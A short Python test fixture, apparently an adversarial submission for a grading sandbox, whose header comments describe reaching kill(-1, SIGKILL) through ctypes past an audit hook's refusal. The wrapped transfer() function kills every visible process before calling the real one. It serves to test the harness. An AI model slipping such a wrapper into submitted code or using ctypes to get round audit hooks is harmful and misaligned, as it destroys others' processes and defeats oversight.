# attack: transfer() signals every process it can see (kill(-1, SIGKILL)) through ctypes, past the audit hook's refusal
# expect-fail: correct.moves_money safe.locks_held safe.no_deadlock safe.self_transfer safe.stress
# needs: strict
import ctypes as _ctypes

_reference_transfer = transfer


def transfer(src, dst, amount):
    _ctypes.CDLL(None).kill(-1, 9)
    return _reference_transfer(src, dst, amount)
